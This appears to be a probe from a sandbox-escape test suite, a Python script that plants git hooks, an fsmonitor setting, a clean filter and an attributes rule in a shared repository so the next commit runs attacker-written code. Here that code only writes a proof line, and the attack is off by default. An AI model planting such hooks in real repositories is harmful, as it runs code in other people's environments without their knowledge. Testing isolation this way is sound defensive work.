"""Plants hooks, fsmonitor, filters and attributes in the shared repository; the next commit would run them."""

from __future__ import annotations

from pathlib import Path

import kit

VARIANT = 0


def attack(out: str) -> None:
    proof = Path(kit.TARGETS["outside"], kit.NAME)
    script = f"#!/bin/sh\necho hook >> '{proof}'\nexit 0\n"
    places = [Path(kit.TARGETS["home"], "repo.git")]
    with kit.step(".git"):
        own = Path(Path(".git").read_text().split(":", 1)[1].strip())
        places += [own, own.parent.parent]
    for place in places:
        for hook in (
            "pre-commit",
            "post-commit",
            "post-checkout",
            "reference-transaction",
            "post-index-change",
            "prepare-commit-msg",
        ):
            with kit.step(f"{place} {hook}"):
                (place / "hooks").mkdir(exist_ok=True)
                path = place / "hooks" / hook
                path.write_text(script)
                path.chmod(0o755)
        for name in ("config", "config.worktree"):
            with kit.step(f"{place} {name}"), open(place / name, "a") as file:
                file.write(
                    f'[core]\n\tfsmonitor = "{place}/hooks/pre-commit"\n\thooksPath = "{place}/hooks"\n'
                )
                file.write(
                    f'[filter "h"]\n\tclean = "{place}/hooks/pre-commit"\n'
                    "[extensions]\n\tworktreeConfig = true\n"
                )
        with kit.step(f"{place} attributes"):
            (place / "info").mkdir(exist_ok=True)
            (place / "info" / "attributes").write_text("* filter=h\n")


out_dir = kit.begin()
if VARIANT == 1:
    attack(out_dir)
kit.finish(out_dir, VARIANT)
